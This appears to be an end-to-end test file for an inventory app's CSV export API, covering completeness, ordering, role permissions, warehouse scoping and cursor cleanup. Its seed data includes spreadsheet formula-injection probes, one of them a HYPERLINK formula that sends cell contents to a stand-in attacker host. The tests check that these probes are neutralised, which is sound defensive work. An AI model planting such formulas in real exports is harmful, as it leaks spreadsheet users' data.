import http from 'node:http';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, dbKind, type TestApp } from '../support/test-app.js';
import { rowsOf } from '../../src/server/db/rows.js';
import type { DbOrTx } from '../../src/server/db/client.js';
import { parseCsv } from '../../src/server/services/csv.js';
import { csvLine } from '../../src/domain/csv.js';
import { exportCells, exportColumnsOf, type ListRecord } from '../../src/domain/list-csv.js';
import { DECLARED_RESOURCES } from '../../src/domain/resources/index.js';
import { DEFAULT_POLICY, WAREHOUSE_SCOPED, type Policy } from '../../src/domain/policy.js';
import type { Role } from '../../src/domain/roles.js';

/**
 * Issue 33: every list's CSV export (`GET /api/<path>.csv`) is written by the API from one statement read through a
 * cursor: every row of the list's search and filters in its order (more rows than the SPA's old export stopped at,
 * 50,000), in the list's columns, a role's cost figures and warehouse scope applied as on the list.
 */
let t: TestApp;
/** Cities seeded: more than the 50,000 rows the SPA's paging export stopped at. */
const CITIES = 60_000;
/**
 * Rows seeded in each other list: more than one fetch of the download's cursor (2,000 rows), so every file is read in
 * several; not 60,000 each: 60,000 products alone take half a minute to insert on PGlite (their trigram indexes).
 */
const BULK = 2_500;
/** The seeded warehouse holding the bulk inventory: not one of the demo warehouse-user's. */
let bulkWarehouse: { id: string; name: string };
/** The demo warehouse-user's assigned warehouses. */
let mine: string[];

const BOM = '\uFEFF';
const FORMULA_CITY = '=HYPERLINK("http://evil.test/?"&A1,"Bulkpur")';
const FORMULA_PRODUCT = '@SUM(1+1) Bulk Probe';
const FORMULA_CHARGE = '-2+3 Bulk charge';

const one = async <T>(query: ReturnType<typeof sql>) => rowsOf<T>(await t.db.execute(query))[0]!;
const count = async (query: ReturnType<typeof sql>) => (await one<{ n: number }>(sql`select count(*)::int as n from (${query}) q`)).n;

beforeAll(async () => {
  t = await createTestApp();
  mine = (await t.request('GET', `/api/users/${t.userIds['warehouse-user']}`, { role: 'admin' })).body.warehouse_ids;
  bulkWarehouse = await one(sql`select id, name from warehouses where id <> all(${`{${mine.join(',')}}`}::uuid[]) order by name limit 1`);
  const seller = t.userIds.seller;
  // Set-based, one statement per list, the rows created a second apart (the default orders are by creation); in one
  // transaction that writes no history entry per row (src/server/db/actor.ts's quiet bulk step).
  await t.db.transaction(async (tx) => {
    await tx.execute(sql`select set_config('app.history_quiet', 'on', true)`);
    await seed(tx, seller);
  });
}, 600_000);
afterAll(async () => t?.close());

async function seed(db: DbOrTx, seller: string) {
  await db.execute(sql`
    insert into cities (name, state, district, pincode, wards, created)
    select 'Bulk City ' || lpad(i::text, 5, '0'), 'Bulkstate', 'Bulk District', (100000 + i)::text, '["North", "South"]'::jsonb,
           now() - make_interval(secs => i)
      from generate_series(1, ${CITIES}) as i`);
  await db.execute(sql`insert into cities (name, state, district, pincode) values (${FORMULA_CITY}, 'Bulkstate', 'Bulk District', '199999')`);
  await db.execute(sql`
    insert into warehouses (name, city_id, address, contact_person, contact_phone, contact_email, status, created)
    select 'Bulk Warehouse ' || lpad(i::text, 5, '0'), (select id from cities where name = 'Bulk City 00001'), 'Plot ' || i,
           'Bulk Manager', '+91 90000 ' || lpad((i % 100000)::text, 5, '0'), 'bulk@example.com',
           case when i % 10 = 0 then 'inactive' else 'active' end, now() - make_interval(secs => i)
      from generate_series(1, ${BULK}) as i`);
  await db.execute(sql`
    insert into users (firstname, lastname, email, phonenumber, password_hash, role, status, created)
    select 'Bulk', 'User ' || lpad(i::text, 5, '0'), 'bulk' || i || '@example.com', '7' || lpad(i::text, 9, '0'), 'not-a-hash',
           'customer', case when i % 7 = 0 then 'notverified' else 'active' end, now() - make_interval(secs => i)
      from generate_series(1, ${BULK}) as i`);
  await db.execute(sql`
    insert into categories (name, created)
    select 'Bulk Category ' || lpad(i::text, 5, '0'), now() - make_interval(secs => i) from generate_series(1, ${BULK}) as i`);
  await db.execute(sql`
    insert into subcategories (category_id, name, gst_rate, gst_type, hsn_code, perishable)
    select (select id from categories where name = 'Bulk Category 00001'), 'Bulk Subcategory ' || lpad(i::text, 5, '0'), (i % 4) * 6,
           'GST', lpad((i % 10000)::text, 4, '0'), i % 2 = 0
      from generate_series(1, ${BULK}) as i`);
  await db.execute(sql`
    insert into products (productname, product_hindi, category_id, subcategory_id, product_keyword, price, discount_price,
      product_description, unit, unit_value, sku, created)
    select case when i = 1 then ${FORMULA_PRODUCT} else 'Bulk Product ' || lpad(i::text, 5, '0') end, 'उत्पाद ' || i, s.category_id, s.id,
           'Bulkbrand', 10 + i % 500, 9 + i % 500, 'Bulk product ' || i || ', "quoted", of a list', 'pcs', '1', 'BULK-' || i,
           now() - make_interval(secs => i)
      from generate_series(1, ${BULK}) as i,
           (select id, category_id from subcategories where name = 'Atta & Flours') s`);
  await db.execute(sql`
    insert into inventory (product_id, warehouse_id, current_stock, stock_value, minimum_stock, maximum_stock, unit_cost, location)
    select p.id, ${bulkWarehouse.id}::uuid, n % 50, (n % 50) * 12.5, 10, 100, 12.5, 'Bin ' || (n % 100)
      from (select id, row_number() over (order by id) as n from products where product_keyword = 'Bulkbrand') p`);
  await db.execute(sql`
    insert into handling_charges (charge_type, amount, created)
    select case when i = 1 then ${FORMULA_CHARGE} else 'Bulk charge ' || lpad(i::text, 5, '0') end, (i % 1000) + 0.5,
           now() - make_interval(secs => i)
      from generate_series(1, ${BULK}) as i`);
  await db.execute(sql`
    insert into purchase_orders (number, seller_id, warehouse_id, expected_on, status, created)
    select 'PO-BULK-' || lpad(i::text, 5, '0'), ${seller}::uuid,
           case when i % 2 = 0 then ${bulkWarehouse.id}::uuid else ${mine[0]}::uuid end, current_date + (i % 30),
           (array['draft', 'ordered', 'received', 'cancelled'])[1 + i % 4], now() - make_interval(secs => i)
      from generate_series(1, ${BULK}) as i`);
}

type Csv = { status: number; headers: Record<string, unknown>; text: string; header: string[]; records: string[][] };

/** A list's CSV as `role` downloads it. */
async function download(path: string, query = '', role: Role | null = 'admin'): Promise<Csv> {
  const res = await t.app.inject({
    method: 'GET',
    url: `/api/${path}.csv${query ? `?${query}` : ''}`,
    headers: role ? { authorization: `Bearer ${await t.token(role)}` } : {},
  });
  const text = res.body;
  if (res.statusCode !== 200) return { status: res.statusCode, headers: res.headers, text, header: [], records: [] };
  const parsed = parseCsv(text.replace(/^\uFEFF/, ''));
  expect(parsed.error).toBeUndefined();
  const [header, ...records] = parsed.records.map((r) => r.fields);
  return { status: res.statusCode, headers: res.headers, text, header: header ?? [], records };
}

/** A page of the list's JSON answer (users' rows are under `users`). */
async function listPage(path: string, query: string, page: number, role: Role = 'admin'): Promise<{ rows: ListRecord[]; total: number }> {
  const res = await t.request('GET', `/api/${path}?${query}${query ? '&' : ''}page=${page}&limit=100`, { role });
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  return { rows: res.body.data ?? res.body.users, total: res.body.total };
}

/**
 * The CSV of a declared list holds its every row, in the list's order: its length is the list's total, and it begins
 * with the list's first page and ends with its last, each row in the columns of its header (as the list sends it).
 */
async function expectWholeList(resource: string, query: string, header: string[], role: Role = 'admin'): Promise<Csv> {
  const spec = DECLARED_RESOURCES.find((r) => r.name === resource)!;
  const path = spec.path.slice(1);
  const csv = await download(path, query, role);
  expect(csv.status, csv.text.slice(0, 300)).toBe(200);
  expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(csv.headers['content-disposition']).toMatch(
    new RegExp(`^attachment; filename="${spec.entity.plural.replace(/ /g, '_')}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`),
  );
  expect(csv.header).toEqual(header);
  const columns = exportColumnsOf(spec).filter((c) => header.includes(c.title));
  expect(columns.map((c) => c.title)).toEqual(header);
  const lines = (rows: ListRecord[]) => rows.map((row) => csvLine(exportCells(row, columns))).join('');
  const first = await listPage(path, query, 1, role);
  expect(csv.records.length).toBe(first.total);
  expect(csv.text.startsWith(`${BOM}${csvLine(header)}${lines(first.rows)}`)).toBe(true);
  const last = await listPage(path, query, Math.max(1, Math.ceil(first.total / 100)), role);
  expect(csv.text.endsWith(lines(last.rows))).toBe(true);
  return csv;
}

describe('GET /api/<list>.csv: every row, in the list columns and order', () => {
  it(`products: the import's columns, all ${BULK + 64} of them; a search, a filter and a sort as the list's`, async () => {
    const header = [
      'sku',
      'barcode',
      'productname',
      'product_hindi',
      'category',
      'subcategory',
      'brand',
      'unit',
      'unit_value',
      'price',
      'discount_price',
      'description',
      'tracks_expiry',
    ];
    const all = await expectWholeList('products', '', header);
    expect(all.records.length).toBe(await count(sql`select id from products`));
    expect(all.records.length).toBeGreaterThan(BULK);
    // A product named like a formula is text; a description with commas and quotes is one cell.
    const probe = all.records.find((r) => r[0] === 'BULK-1')!;
    expect(probe.slice(2, 7)).toEqual([`'${FORMULA_PRODUCT}`, 'उत्पाद 1', 'Staples', 'Atta & Flours', 'Bulkbrand']);
    expect(probe[11]).toBe('Bulk product 1, "quoted", of a list');
    expect(all.text).toContain(`,'${FORMULA_PRODUCT},`);

    const sorted = await expectWholeList('products', 'q=bulk%20product&sort=price&order=desc', header);
    expect(sorted.records.length).toBe(BULK - 1);
    const prices = sorted.records.map((r) => Number(r[9]));
    expect(prices).toEqual([...prices].sort((a, b) => b - a));

    // A warehouse's products with their balance there, in stock order (the statement that joins each balance).
    const stocked = await expectWholeList('products', `warehouse_id=${bulkWarehouse.id}&sort=current_stock&order=asc`, header);
    expect(stocked.records.length).toBe(await count(sql`select id from inventory where warehouse_id = ${bulkWarehouse.id}::uuid`));
    const out = await expectWholeList('products', 'stock_status=out_of_stock&sort=productname', header);
    expect(out.records.length).toBeGreaterThanOrEqual(BULK / 50);
  });

  it('inventory: the list columns with its status, costs included for a role that sees them; the filters and sort', async () => {
    const header = ['Product Name', 'Current Stock', 'Min Stock', 'Max Stock', 'Location', 'Warehouse', 'Unit Cost', 'Total Value', 'Status'];
    const all = await expectWholeList('inventory', '', header);
    expect(all.records.length).toBe(await count(sql`select id from inventory`));
    expect(all.records.length).toBeGreaterThan(BULK);
    expect(new Set(all.records.map((r) => r[8]))).toEqual(new Set(['In Stock', 'Low Stock', 'Out of Stock']));
    const low = await expectWholeList('inventory', `warehouse=${bulkWarehouse.id}&low_stock_only=true&sort=total_value&order=desc`, header);
    expect(low.records.length).toBe(
      await count(sql`select id from inventory where warehouse_id = ${bulkWarehouse.id}::uuid and current_stock <= minimum_stock`),
    );
    expect(low.records.every((r) => r[5] === bulkWarehouse.name && r[8] !== 'In Stock')).toBe(true);
    const values = low.records.map((r) => Number(r[7]));
    expect(values).toEqual([...values].sort((a, b) => b - a));
    // As the list: a malformed id is a 400 naming its parameter, before any file.
    const bad = await download('inventory', 'warehouse_id=nope');
    expect([bad.status, JSON.parse(bad.text).errors?.[0]?.field]).toEqual([400, 'warehouse_id']);
  });

  it('users: Name is first and last name, role and status by their labels; filter and sort', async () => {
    const header = ['Name', 'Email', 'Role', 'Status', 'Created', 'Modified'];
    const all = await expectWholeList('users', '', header);
    expect(all.records.length).toBe(await count(sql`select id from users`));
    const customers = await expectWholeList('users', 'role=customer&status=notverified&sort=email&order=asc', header);
    expect(customers.records.length).toBe(await count(sql`select id from users where role = 'customer' and status = 'notverified'`));
    expect(customers.records.every((r) => r[2] === 'Customer' && r[3] === 'Not Verified')).toBe(true);
    expect(all.records.find((r) => r[1] === 'bulk7@example.com')!.slice(0, 4)).toEqual(['Bulk User 00007', 'bulk7@example.com', 'Customer', 'Not Verified']);
  });

  it('cities: wards joined, status by its labels, a name like a formula as text; a contains filter and a sort', async () => {
    const header = ['City Name', 'State', 'District', 'Pincode', 'Wards', 'Status', 'Created'];
    const all = await expectWholeList('cities', '', header);
    expect(all.records.length).toBe(await count(sql`select id from cities`));
    expect(all.records.find((r) => r[0] === 'Bulk City 00002')!.slice(0, 6)).toEqual([
      'Bulk City 00002',
      'Bulkstate',
      'Bulk District',
      '100002',
      'North, South',
      'Active',
    ]);
    // Quoted by the CSV writer, inner quotes doubled, the text beginning with an apostrophe (tests/e2e/csv-formulas.test.ts).
    expect(all.text).toContain(`"'=HYPERLINK(""http://evil.test/?""&A1,""Bulkpur"")"`);
    const bulk = await expectWholeList('cities', 'state=bulkst&sort=name&order=desc', header);
    expect(bulk.records.length).toBe(CITIES + 1);
    const names = bulk.records.map((r) => r[0]).filter((name) => name!.startsWith('Bulk City'));
    expect([names[0], names.at(-1)]).toEqual([`Bulk City ${CITIES}`, 'Bulk City 00001']);
  }, 180_000); // 60,000 cities seeded and downloaded: over 60 s on PGlite on two loaded cores.

  it('categories, subcategories and handling charges: every row, references by name, flags by label, formulas as text', async () => {
    const categories = await expectWholeList('categories', 'sort=name&order=asc', ['Category Name']);
    expect(categories.records.length).toBe(await count(sql`select id from categories`));
    const subHeader = ['Category', 'Subcategory Name', 'GST Rate (%)', 'GST Type', 'HSN Code', 'Perishable'];
    const subs = await expectWholeList('subcategories', '', subHeader);
    expect(subs.records.length).toBe(await count(sql`select id from subcategories`));
    expect(subs.records.find((r) => r[1] === 'Bulk Subcategory 00002')).toEqual(['Bulk Category 00001', 'Bulk Subcategory 00002', '12', 'GST', '0002', 'Yes']);
    const charges = await expectWholeList('handling-charges', 'q=bulk&sort=amount&order=desc', ['Type', 'Amount']);
    expect(charges.records.length).toBe(BULK);
    expect(charges.text).toContain(`\r\n'${FORMULA_CHARGE},1.5\r\n`);
  });

  it('warehouses and purchase orders (a document): every row, references by name, a choice as its value', async () => {
    const warehouses = await expectWholeList('warehouses', '', ['Warehouse Name', 'City', 'Address', 'Status', 'Contact Person', 'Phone']);
    expect(warehouses.records.length).toBe(await count(sql`select id from warehouses`));
    // A phone beginning with + would be a formula.
    expect(warehouses.records.find((r) => r[0] === 'Bulk Warehouse 00010')).toEqual([
      'Bulk Warehouse 00010',
      'Bulk City 00001',
      'Plot 10',
      'inactive',
      'Bulk Manager',
      "'+91 90000 00010",
    ]);
    const inactive = await expectWholeList('warehouses', 'status=inactive&sort=name&order=desc', [
      'Warehouse Name',
      'City',
      'Address',
      'Status',
      'Contact Person',
      'Phone',
    ]);
    expect(inactive.records.length).toBe(await count(sql`select id from warehouses where status = 'inactive'`));

    const header = ['PO Number', 'Seller', 'Warehouse', 'Expected', 'Status'];
    const orders = await expectWholeList('purchase-orders', '', header);
    expect(orders.records.length).toBe(await count(sql`select id from purchase_orders`));
    expect(orders.records.length).toBeGreaterThanOrEqual(BULK);
    const ordered = await expectWholeList('purchase-orders', `status=ordered,received&warehouse_id=${bulkWarehouse.id}&sort=expected_on&order=desc`, header);
    expect(ordered.records.length).toBe(
      await count(sql`select id from purchase_orders where status in ('ordered', 'received') and warehouse_id = ${bulkWarehouse.id}::uuid`),
    );
    expect(ordered.records.every((r) => r[2] === bulkWarehouse.name && ['ordered', 'received'].includes(r[4]!))).toBe(true);
  });
});

/**
 * An error body less the id of its own request (each answer names a request of its own) and its codes: the list's
 * answer comes through the test app, which checks and drops them (tests/support/test-app.ts).
 */
const withoutRequestId = (body: unknown) => {
  const { request_id: _id, code: _code, ...rest } = body as Record<string, unknown>;
  if (Array.isArray(rest.errors)) rest.errors = rest.errors.map(({ code: _c, ...error }: Record<string, unknown>) => error);
  return rest;
};

describe('who may download what: as the list', () => {
  it('401 without a token and 403 without the list permission, as the list answers', async () => {
    for (const path of ['products', 'inventory', 'users', 'cities', 'purchase-orders']) {
      expect((await download(path, '', null)).status).toBe(401);
    }
    // The demo warehouse-user lists inventory, warehouses and purchase orders, not users, cities or products.
    for (const path of ['users', 'cities', 'products']) {
      const [list, csv] = [await t.request('GET', `/api/${path}`, { role: 'warehouse-user' }), await download(path, '', 'warehouse-user')];
      expect([csv.status, withoutRequestId(JSON.parse(csv.text))]).toEqual([403, withoutRequestId(list.body)]);
      expect(list.status).toBe(403);
    }
  });

  it("without 'costs: see', no cost column (nor a sort by one); with scope 'assigned', only the user's warehouses", async () => {
    const policy: Policy = JSON.parse(JSON.stringify(DEFAULT_POLICY));
    delete policy.grants['warehouse-user'].costs;
    policy.scope = { 'warehouse-user': Object.fromEntries(WAREHOUSE_SCOPED.map((r) => [r, 'assigned'])) };
    expect((await t.request('PUT', '/api/permissions', { role: 'admin', body: policy })).status).toBe(200);
    try {
      const inScope = sql`select id from inventory where warehouse_id = any(${`{${mine.join(',')}}`}::uuid[])`;
      const header = ['Product Name', 'Current Stock', 'Min Stock', 'Max Stock', 'Location', 'Warehouse', 'Status'];
      const inventory = await expectWholeList('inventory', '', header, 'warehouse-user');
      expect(inventory.records.length).toBe(await count(inScope));
      expect(inventory.records.length).toBeGreaterThan(0);
      expect(inventory.records.some((r) => r[5] === bulkWarehouse.name)).toBe(false);
      expect(inventory.text).not.toMatch(/Unit Cost|Total Value/);
      // A sort by a hidden figure is refused as on the list.
      const [list, csv] = [
        await t.request('GET', '/api/inventory?sort=total_value', { role: 'warehouse-user' }),
        await download('inventory', 'sort=total_value', 'warehouse-user'),
      ];
      expect([csv.status, withoutRequestId(JSON.parse(csv.text))]).toEqual([400, withoutRequestId(list.body)]);
      // Another warehouse named in the filter: nothing of it.
      expect((await download('inventory', `warehouse=${bulkWarehouse.id}`, 'warehouse-user')).records).toEqual([]);

      const warehouses = await expectWholeList('warehouses', '', ['Warehouse Name', 'City', 'Address', 'Status', 'Contact Person', 'Phone'], 'warehouse-user');
      expect(warehouses.records.length).toBe(mine.length);
      const orders = await expectWholeList('purchase-orders', '', ['PO Number', 'Seller', 'Warehouse', 'Expected', 'Status'], 'warehouse-user');
      expect(orders.records.length).toBe(await count(sql`select id from purchase_orders where warehouse_id = any(${`{${mine.join(',')}}`}::uuid[])`));
      expect(orders.records.some((r) => r[2] === bulkWarehouse.name)).toBe(false);
    } finally {
      expect((await t.request('PUT', '/api/permissions', { role: 'admin', body: DEFAULT_POLICY })).status).toBe(200);
    }
  });
});

describe(`the download on ${dbKind}`, () => {
  it('other requests are answered while a download is read slowly', async () => {
    const res = await t.app.inject({
      method: 'GET',
      url: '/api/products.csv',
      headers: { authorization: `Bearer ${await t.token('admin')}` },
      payloadAsStream: true,
    });
    expect(res.statusCode).toBe(200);
    const chunks = res.stream()[Symbol.asyncIterator]();
    // The first chunk only: the download waits for its reader.
    const first = (await chunks.next()).value as Buffer;
    expect(String(first).startsWith(`${BOM}sku,barcode,`)).toBe(true);
    const list = await t.request('GET', '/api/cities?limit=1', { role: 'admin' });
    expect(list.status).toBe(200);
    const read = [first];
    for (let next = await chunks.next(); !next.done; next = await chunks.next()) read.push(next.value as Buffer);
    const text = Buffer.concat(read).toString('utf8');
    expect(text.split('\r\n').length - 2).toBe(await count(sql`select id from products`));
  });

  it('a reader that goes away part-way ends the reading: its cursor is closed and the next download is whole', async () => {
    // Over a real socket (inject's answer does not tell the server its reader left), closed after the first chunk.
    const url = await t.app.listen({ port: 0, host: '127.0.0.1' });
    const token = await t.token('admin');
    await new Promise<void>((resolve, reject) => {
      const request = http.get(`${url}/api/cities.csv`, { headers: { authorization: `Bearer ${token}` } }, (response) => {
        expect(response.statusCode).toBe(200);
        response.once('data', () => {
          request.destroy();
          resolve();
        });
      });
      request.on('error', (error) => (request.destroyed ? undefined : reject(error)));
    });
    // The embedded database's one session holds no cursor of it once the download has stopped; PostgreSQL's pool no transaction.
    const open =
      dbKind === 'pglite'
        ? sql`select name from pg_cursors where name like 'csv_download%'`
        : sql`select pid from pg_stat_activity where datname = current_database() and state like 'idle in transaction%'`;
    await expect.poll(() => count(open), { timeout: 30_000 }).toBe(0);
    const again = await download('cities', 'state=bulkstate');
    expect(again.records.length).toBe(CITIES + 1);
  });
});
